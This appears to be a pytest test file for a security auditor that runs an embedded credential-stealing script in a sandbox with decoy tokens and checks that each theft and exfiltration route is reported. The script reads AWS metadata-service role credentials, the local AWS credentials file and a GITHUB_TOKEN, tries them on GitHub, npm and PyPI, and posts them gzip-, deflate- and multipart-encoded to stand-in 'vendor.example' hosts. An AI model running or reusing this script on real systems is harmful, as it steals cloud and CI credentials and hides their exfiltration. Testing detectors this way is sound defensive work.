"""A thief that does all by HTTP inside TLS: the services let it go on, and the report tells how."""

from __future__ import annotations

import pytest

from pytest_ato.audit import Options, Outcome
from pytest_ato.model.report import Report
from pytest_ato.target import resolve

pytestmark = pytest.mark.privileged

TARGET = r"""
import base64, configparser, gzip, hashlib, http.client, json, os, pathlib, zlib
from urllib.request import Request, urlopen

def ask(url, data=None, method=None, **headers):
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    with urlopen(Request(url, data, names, method=method), timeout=20) as response:
        return response.read().decode()

# The role's credentials, by the second version of the protocol.
metadata = "http://169.254.169.254/latest/"
token = ask(metadata + "api/token", method="PUT", X_aws_ec2_metadata_token_ttl_seconds="60")
roles = metadata + "meta-data/iam/security-credentials/"
role = ask(roles, X_aws_ec2_metadata_token=token)
print("role", json.loads(ask(roles + role, X_aws_ec2_metadata_token=token))["Code"])

aws = configparser.RawConfigParser()
aws.read(pathlib.Path.home() / ".aws/credentials")
key = aws[aws.sections()[0]]["aws_access_key_id"]
scope = "20250101/us-east-1/sts/aws4_request"
signed = f"AWS4-HMAC-SHA256 Credential={key}/{scope}, SignedHeaders=host, Signature={'0' * 64}"
identity = ask("https://sts.amazonaws.com/?Action=GetCallerIdentity", Authorization=signed)
print("sts", "GetCallerIdentityResult" in identity)

secret = os.environ["GITHUB_TOKEN"]
user = ask("https://api.github.com/user", Authorization=f"token {secret}")
print("user", json.loads(user)["login"])
print("npm", ask("https://registry.npmjs.org/-/whoami", Authorization=f"Bearer {secret}"))
basic = base64.b64encode(f"__token__:{secret}".encode()).decode()
print("pypi", ask("https://upload.pypi.org/legacy/", b"x", Authorization=f"Basic {basic}"))

def chunks(data):
    for at in range(0, len(data), 7):
        yield data[at : at + 7]

def post(host, body, **headers):
    connection = http.client.HTTPSConnection(host + ".vendor.example", timeout=20)
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request("POST", "/drop?id=1", body, names, encode_chunked=True)
    connection.getresponse().read()

coded = base64.b64encode(b"token: " + secret.encode())
post("gzip", gzip.compress(coded), Content_Encoding="gzip")
post("deflate", chunks(zlib.compress(coded)), Content_Encoding="deflate",
     Transfer_Encoding="chunked")
form = b'--XX\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n'
form += coded + b"\r\n--XX--\r\n"
post("form", gzip.compress(form), Content_Encoding="gzip",
     Content_Type="multipart/form-data; boundary=XX")
"""


@pytest.fixture(scope="module")
def outcome(auditor, vendor) -> Outcome:
    return auditor.audit(resolve(str(vendor(TARGET, python=True))), Options())


@pytest.fixture(scope="module")
def report(outcome) -> Report:
    return outcome.report


def test_every_service_lets_it_go_on(outcome) -> None:
    assert outcome.stdout.decode().split("\n") == [
        *("role Success", "sts True", "user build-deploy"),
        *('npm {"username": "build-deploy"}', "", "pypi OK", ""),
    ], outcome.stderr


@pytest.mark.parametrize(
    ("place", "service", "kind"),
    [
        ("sts.amazonaws.com:443", "AWS STS", "a SigV4 signature"),
        ("api.github.com:443", "GitHub", "a token"),
        ("registry.npmjs.org:443", "npm registry", "a bearer token"),
        ("upload.pypi.org:443", "PyPI", "a user and password"),
    ],
)
def test_a_credential_that_is_presented_is_found(report, place, service, kind) -> None:
    found = [one for one in report.findings if one.detector == "honeytoken_used"]
    [finding] = [one for one in found if one.where == place]
    assert f"presented to {service}" in finding.title
    assert finding.title.endswith(f"as {kind}")


@pytest.mark.parametrize(
    ("host", "way"),
    [
        ("gzip", "tls > http body > gzip > base64"),
        ("deflate", "tls > http body > deflate > base64"),
        ("form", "tls > http body > gzip > multipart > base64"),
    ],
)
def test_the_way_to_a_value_is_told(report, host, way) -> None:
    found = [one for one in report.findings if one.detector == "honeytoken_exfil"]
    [finding] = [one for one in found if one.where == f"{host}.vendor.example:443"]
    assert finding.title.endswith(f"as {way}")


def test_requests_are_listed_without_their_values(report) -> None:
    [one] = [one for one in report.requests if one.host == "form.vendor.example"]
    assert (one.method, one.url) == ("POST", "https://form.vendor.example/drop?id=1")
    assert {"content-encoding", "content-type", "host"} <= set(one.headers)
    assert one.body_bytes > 0
    assert report.requests_total == 10


def test_the_metadata_service_is_told(report) -> None:
    assert "cloud_metadata" in {one.detector for one in report.findings}
